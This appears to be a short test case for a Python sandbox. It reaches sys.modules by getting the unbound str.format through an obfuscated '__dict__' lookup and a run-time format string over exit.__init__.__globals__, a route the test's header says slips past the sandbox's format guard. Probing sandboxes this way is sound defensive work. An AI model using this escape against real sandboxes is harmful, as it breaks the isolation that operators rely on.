# technique: operator.attrgetter('__dict__') was let through because update_wrapper copies __dict__ by default: str.__dict__['format'] is the unbound str.format, called by name on a run-time __init__.__globals__[sys].modules template the format guard never sees
# configs: default, common
# With nothing allowed `import operator` is refused.
import operator
u = '_' * 2
unbound = operator.attrgetter(u + 'dict' + u)(str)['format']
text = unbound('{0.' + u + 'init' + u + '.' + u + 'globals' + u + '[sys].modules}', exit)
if "<module 'sys'" in text:
    return [{'json': {'escaped': text[:200]}}]
return [{'json': {'result': text[:200]}}]
